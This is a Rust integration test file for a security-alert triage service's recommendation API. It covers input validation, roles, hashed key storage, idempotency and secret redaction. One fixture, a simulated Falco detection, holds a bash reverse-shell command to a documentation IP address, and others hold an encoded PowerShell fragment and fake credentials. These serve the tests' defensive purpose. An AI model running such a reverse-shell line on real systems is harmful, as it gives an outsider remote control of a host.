//! `POST /v1/recommend` through the real server: contract sections 1, 2 and 7.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use common::{TestApp, native_alert, spawn_app};
use serde_json::{Value, json};
use triage::corpus::fold_whitespace;
use triage::store::Role;

/// Checks a ready response the way a skeptical caller would, independently of the service:
/// the schema it serves, active techniques, refs that were retrieved or exist in the
/// request, and quotes that appear verbatim in what they cite.
async fn assert_grounded(t: &TestApp, key: &str, request: &Value, resp: &Value) {
    assert_eq!(resp["status"], "ready", "{resp:#}");
    let rec = &resp["recommendation"];
    let (_, schema) = t.get("/v1/schema/recommendation", key).await;
    let validator = jsonschema::validator_for(&schema).unwrap();
    let errors: Vec<String> = validator.iter_errors(rec).map(|e| e.to_string()).collect();
    assert!(errors.is_empty(), "{errors:?}");

    let catalog = triage::attack::Catalog::embedded().unwrap();
    assert!(!rec["attack"].as_array().unwrap().is_empty(), "no technique mapped: {rec:#}");
    for a in rec["attack"].as_array().unwrap() {
        let id = triage::attack::TechniqueId::parse(a["technique_id"].as_str().unwrap()).unwrap();
        let t = catalog.get(&id).unwrap();
        assert!(t.is_active(), "{id} is not active");
        assert_eq!(a["name"], t.name.as_str());
        assert_eq!(a["tactics"], json!(t.tactics));
    }
    let retrieved: Vec<&str> = resp["retrieved"].as_array().unwrap().iter().map(|r| r["ref"].as_str().unwrap()).collect();
    // An empty evidence list would pass the loop below without checking anything.
    assert!(!rec["evidence"].as_array().unwrap().is_empty(), "no evidence cited: {rec:#}");
    for e in rec["evidence"].as_array().unwrap() {
        let r = e["ref"].as_str().unwrap();
        let cited_text = if let Some(rest) = r.strip_prefix("alert:") {
            let (alert_id, path) = rest.split_once('#').unwrap();
            let alert = request["alerts"].as_array().unwrap().iter().find(|a| a["id"] == alert_id || a["finding_info"]["uid"] == alert_id).unwrap();
            triage::jsonpath::text_of(triage::jsonpath::resolve(alert, path).unwrap_or_else(|| panic!("{r} does not exist")))
        } else {
            assert!(retrieved.contains(&r), "{r} was not retrieved");
            let (_, doc) = t.get(&format!("/v1/documents/{r}"), key).await;
            doc["text"].as_str().unwrap().to_string()
        };
        if let Some(q) = e["quote"].as_str() {
            assert!(fold_whitespace(&cited_text).contains(&fold_whitespace(q)), "quote not verbatim in {r}: {q}");
        }
    }
}

#[tokio::test]
async fn native_alert_gets_a_grounded_ready_recommendation() {
    let t = spawn_app().await;
    let key = t.key("case-engine", Role::CaseEngine);
    let request = json!({"alerts": [{
        "id": "evt-91", "source": "aws-cloudtrail", "time": "2026-05-11T22:04:19Z",
        "rule": {"name": "IAM access key created for another user from an unfamiliar IP", "severity": "high"},
        "entities": {"service_accounts": ["svc-backup"], "cloud_accounts": ["210987654321"], "ips": ["198.51.100.23"]},
        "asset": {"environment": "production", "criticality": "high", "owner": "platform"},
        "fields": {"eventSource": "iam.amazonaws.com", "eventName": "CreateAccessKey",
                   "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::210987654321:user/ci-runner"},
                   "requestParameters": {"userName": "svc-backup"}, "sourceIPAddress": "198.51.100.23",
                   "userAgent": "aws-cli/2.13.1 Python/3.11"}
    }]});
    let (status, resp) = t.post("/v1/recommend", &key, &request).await;
    assert_eq!(status, 200, "{resp}");
    assert_eq!(resp["engine"]["name"], "baseline");
    assert_eq!(resp["engine"]["degraded"], false);
    assert!(resp["recommendation_id"].as_str().unwrap().starts_with("rec_"));
    assert_grounded(&t, &key, &request, &resp).await;
    let sev = resp["recommendation"]["severity"].as_str().unwrap();
    assert!(["high", "critical"].contains(&sev), "{sev}");
    // Non-automatic proposals wait on an approval that exists; automatic ones don't. At least
    // one of each, or the loop proves nothing.
    let proposed = resp["recommendation"]["proposed_actions"].as_array().unwrap();
    assert!(proposed.iter().any(|a| a["tier"] != "automatic"), "{proposed:#?}");
    let approver = t.key("approver", Role::Approver);
    for a in proposed {
        assert_eq!(a["tier"] == "automatic", a.get("approval_id").is_none(), "{a}");
        if let Some(id) = a["approval_id"].as_str() {
            let (s, apr) = t.get(&format!("/v1/approvals/{id}"), &approver).await;
            assert_eq!((s, apr["status"].as_str()), (200, Some("pending")), "{apr}");
        }
    }
    // The stored response is the same.
    let (s, stored) = t.get(&format!("/v1/recommendations/{}", resp["recommendation_id"].as_str().unwrap()), &key).await;
    assert_eq!(s, 200);
    assert_eq!(stored, resp);
}

#[tokio::test]
async fn ocsf_detection_finding_is_understood() {
    let t = spawn_app().await;
    let key = t.key("case-engine", Role::CaseEngine);
    let request = json!({"case_id": "ocsf-case-1", "alerts": [{
        "class_uid": 2004, "category_uid": 2, "activity_id": 1, "time": 1767225600000_i64, "severity_id": 4,
        "metadata": {"product": {"name": "Falco", "vendor_name": "Sysdig"}, "version": "1.3.0"},
        "finding_info": {"uid": "fnd-2c1", "title": "Reverse shell spawned in container: bash -i to remote host",
                         "desc": "A shell in pod payments-api-7d9 connected its stdin and stdout to a remote socket."},
        "device": {"hostname": "k8s-node-14", "ip": "10.20.3.14"},
        "evidences": [{"process": {"cmd_line": "bash -i >& /dev/tcp/203.0.113.77/4444 0>&1", "name": "bash"},
                       "dst_endpoint": {"ip": "203.0.113.77", "port": 4444}}],
        "resources": [{"type": "pod", "name": "payments-api-7d9", "labels": ["environment:production"]}]
    }]});
    let (status, resp) = t.post("/v1/recommend", &key, &request).await;
    assert_eq!(status, 200, "{resp}");
    assert_eq!(resp["case_id"], "ocsf-case-1");
    assert_grounded(&t, &key, &request, &resp).await;
    let evidence = resp["recommendation"]["evidence"].to_string();
    assert!(evidence.contains("alert:fnd-2c1#"), "{evidence}");
}

#[tokio::test]
async fn bad_input_gets_a_stable_code_and_loses_nothing() {
    let t = spawn_app().await;
    let key = t.key("case-engine", Role::CaseEngine);
    let good = json!({"case_id": "keep-me", "alerts": [native_alert("a-1", "Encoded PowerShell spawned by Office", "high", json!({"CommandLine": "powershell -enc SQBFAFgA"}))]});
    let (s, first) = t.post("/v1/recommend", &key, &good).await;
    assert_eq!(s, 200, "{first}");

    let mut unknown_top = good.clone();
    unknown_top["alerts"][0]["severity"] = json!("high");
    let mut missing_rule = good.clone();
    missing_rule["alerts"][0]["rule"] = json!({"id": "x"});
    let mut bad_time = good.clone();
    bad_time["alerts"][0]["time"] = json!("last tuesday");
    let mut bad_severity = good.clone();
    bad_severity["alerts"][0]["rule"]["severity"] = json!("urgent");
    let too_many = json!({"alerts": (0..101).map(|i| native_alert(&format!("a{i}"), "x", "low", json!({}))).collect::<Vec<_>>()});
    let cases: Vec<(Value, &str)> = vec![
        (unknown_top, "unknown_field"),
        (json!({"alerts": [], "extra": 1}), "unknown_field"),
        (missing_rule, "missing_field"),
        (bad_time, "invalid_time"),
        (bad_severity, "invalid_severity"),
        (json!({"alerts": []}), "no_alerts"),
        (too_many, "too_many_alerts"),
        (json!({"alerts": [{"class_uid": 4001, "time": 1}]}), "unsupported_alert_class"),
        (json!({"case_id": "Bad Id!", "alerts": good["alerts"]}), "invalid_case_id"),
    ];
    for (body, code) in cases {
        let (status, err) = t.post("/v1/recommend", &key, &body).await;
        assert_eq!((status, err["error"]["code"].as_str()), (400, Some(code)), "{err}");
        assert!(err["error"]["message"].as_str().unwrap().len() > 5);
    }
    // Not JSON at all.
    let r =
        t.http.post(format!("{}/v1/recommend", t.base)).bearer_auth(&key).header("content-type", "application/json").body("{not json").send().await.unwrap();
    assert_eq!(r.status(), 400);
    assert_eq!(r.json::<Value>().await.unwrap()["error"]["code"], "invalid_json");
    // Over 1 MiB.
    let mut big = good.clone();
    big["alerts"][0]["fields"]["blob"] = json!("A".repeat(1024 * 1024 + 10));
    let (status, err) = t.post("/v1/recommend", &key, &big).await;
    assert_eq!((status, err["error"]["code"].as_str()), (413, Some("payload_too_large")));

    // The server is still up and what was accepted before is intact.
    let (s, h) = t.get("/healthz", &key).await;
    assert_eq!((s, h["status"].as_str()), (200, Some("ok")));
    let (s, case) = t.get("/v1/cases/keep-me", &key).await;
    assert_eq!(s, 200);
    assert_eq!(case["alerts"].as_array().unwrap().len(), 1);
    assert_eq!(case["recommendations"][0], first);
}

#[tokio::test]
async fn keys_and_roles_guard_recommend() {
    // The full route × role matrix is in tests/roles.rs; this is the request a case engine
    // makes most, with the codes a caller branches on.
    let t = spawn_app().await;
    let body = json!({"alerts": [native_alert("a-1", "Suspicious logon", "medium", json!({"LogonType": 10}))]});
    let r = t.http.post(format!("{}/v1/recommend", t.base)).json(&body).send().await.unwrap();
    assert_eq!(r.status(), 401);
    assert_eq!(r.json::<Value>().await.unwrap()["error"]["code"], "unauthorized");
    let (s, err) = t.post("/v1/recommend", "trk_not-a-real-key", &body).await;
    assert_eq!((s, err["error"]["code"].as_str()), (401, Some("unauthorized")));
    let soar = t.key("soar", Role::Soar);
    let (s, err) = t.post("/v1/recommend", &soar, &body).await;
    assert_eq!((s, err["error"]["code"].as_str()), (403, Some("forbidden")));
    // A refused request left nothing behind: no case was opened for it.
    let admin = t.key("admin", Role::Admin);
    let (_, cases) = t.get("/v1/cases", &admin).await;
    assert_eq!(cases["cases"], json!([]), "{cases}");
    let (s, ok) = t.post("/v1/recommend", &admin, &body).await;
    assert_eq!((s, ok["status"].as_str()), (200, Some("ready")), "{ok}");
}

#[tokio::test]
async fn keys_are_stored_hashed() {
    let t = spawn_app().await;
    let (who, secret) = t.app.store.create_key("key-under-test", Role::Soar).unwrap();
    // The key works, so it was stored in some form ...
    let (s, me) = t.get("/v1/whoami", &secret).await;
    assert_eq!((s, me["key_id"].as_str()), (200, Some(who.key_id.as_str())), "{me}");
    // ... and the dump sees that row (the check below is not searching an empty file) ...
    let dump = common::storage_dump(t.dir.path());
    assert!(dump.contains(&who.key_id) && dump.contains("key-under-test"), "the key's row is not in the dump:\n{dump}");
    // ... yet neither the secret nor its random part is stored anywhere, as rows or as
    // bytes in the database, its WAL or its index.
    let random_part = secret.strip_prefix("trk_").unwrap();
    assert!(random_part.len() >= 32, "{secret}");
    for (what, text) in [("rows", dump), ("files", common::storage_files(t.dir.path()))] {
        assert!(!text.contains(random_part), "the API key is stored in plaintext ({what})");
    }
    // Authentication compares the hash of what is presented, not a prefix or a lookalike.
    let (s, _) = t.get("/v1/whoami", &secret[..secret.len() - 1]).await;
    assert_eq!(s, 401);
    let (s, _) = t.get("/v1/whoami", &format!("{secret}x")).await;
    assert_eq!(s, 401);
}

#[tokio::test]
async fn idempotency_key_replays_the_stored_response() {
    let t = spawn_app().await;
    let key = t.key("case-engine", Role::CaseEngine);
    let body = json!({"alerts": [native_alert("a-1", "Password spray against Entra ID", "medium", json!({"failures": 240, "distinct_users": 180}))]});
    let send = |b: Value| {
        let t = &t;
        let key = key.clone();
        async move {
            let r = t.http.post(format!("{}/v1/recommend", t.base)).bearer_auth(key).header("Idempotency-Key", "retry-42").json(&b).send().await.unwrap();
            (r.status().as_u16(), r.json::<Value>().await.unwrap())
        }
    };
    let (s1, r1) = send(body.clone()).await;
    let (s2, r2) = send(body.clone()).await;
    assert_eq!((s1, s2), (200, 200));
    assert_eq!(r1, r2);
    let (_, case) = t.get(&format!("/v1/cases/{}", r1["case_id"].as_str().unwrap()), &key).await;
    assert_eq!(case["recommendations"].as_array().unwrap().len(), 1, "a replay must not run the pipeline again");
    let mut other = body.clone();
    other["alerts"][0]["id"] = json!("a-2");
    let (s3, err) = send(other).await;
    assert_eq!((s3, err["error"]["code"].as_str()), (422, Some("idempotency_key_reused")));
}

#[tokio::test]
async fn secrets_in_alerts_never_reach_responses_or_storage() {
    let t = spawn_app().await;
    let key = t.key("case-engine", Role::CaseEngine);
    let secret = "AKIAZ7QX3EXAMPLE4KQW";
    let pat = "ghp_Q1w2E3r4T5y6U7i8O9p0A1s2D3f4G5h6J7k8";
    let mut alert = native_alert(
        "a-1",
        "AWS access key committed to repository",
        "high",
        json!({"commit_message": format!("add config with {secret}"), "diff": format!("token = {pat}")}),
    );
    // Senders put secrets in entities and rule text too, not only in raw fields.
    alert["entities"]["tokens"] = json!([pat]);
    alert["rule"]["description"] = json!(format!("key {secret} seen in a public commit"));
    let body = json!({"case_id": "leak-1", "alerts": [alert]});
    let (s, resp) = t.post("/v1/recommend", &key, &body).await;
    assert_eq!(s, 200, "{resp}");
    let no_secret = |what: &str, text: &str| {
        for s in [secret, pat, "Q1w2E3r4T5y6U7i8O9p0", "Z7QX3EXAMPLE4KQW"] {
            assert!(!text.contains(s), "`{s}` reached {what}");
        }
    };
    no_secret("the response", &resp.to_string());
    let (_, case) = t.get("/v1/cases/leak-1", &key).await;
    no_secret("the case", &case.to_string());
    assert!(case.to_string().contains("[REDACTED:aws_access_key#1]"), "{case}");
    let (_, audit) = t.get("/v1/audit", &t.key("admin", Role::Admin)).await;
    no_secret("the audit trail", &audit.to_string());

    // Storage, read through SQLite (the WAL holds every write while the server runs) and
    // as raw bytes of the database and its WAL. The placeholder is found, so the dump does
    // see the stored alert; the secrets are not.
    let dump = common::storage_dump(t.dir.path());
    assert!(dump.contains("[REDACTED:aws_access_key#1]") && dump.contains("leak-1"), "the stored alert is not in the dump");
    no_secret("the database rows", &dump);
    no_secret("the database files", &common::storage_files(t.dir.path()));
}

#[tokio::test]
async fn health_readiness_metrics_and_openapi() {
    let t = spawn_app().await;
    let (s, r) = t.get("/readyz", "").await;
    assert_eq!(s, 200);
    assert!(r["documents"].as_u64().unwrap() > 400, "{r}");
    let text = t.http.get(format!("{}/metrics", t.base)).send().await.unwrap().text().await.unwrap();
    assert!(text.contains("\ntriage_queue_depth 0\n"), "{text}");
    assert!(text.contains("triage_http_request_duration_seconds_count{method=\"GET\",route=\"/readyz\",status=\"200\"} 1"), "{text}");
    let (s, o) = t.get("/openapi.json", "").await;
    assert_eq!(s, 200);
    assert!(o["paths"]["/v1/recommend"]["post"].is_object());
    let (s, err) = t.get("/v1/nope", "").await;
    assert_eq!((s, err["error"]["code"].as_str()), (404, Some("not_found")));
}
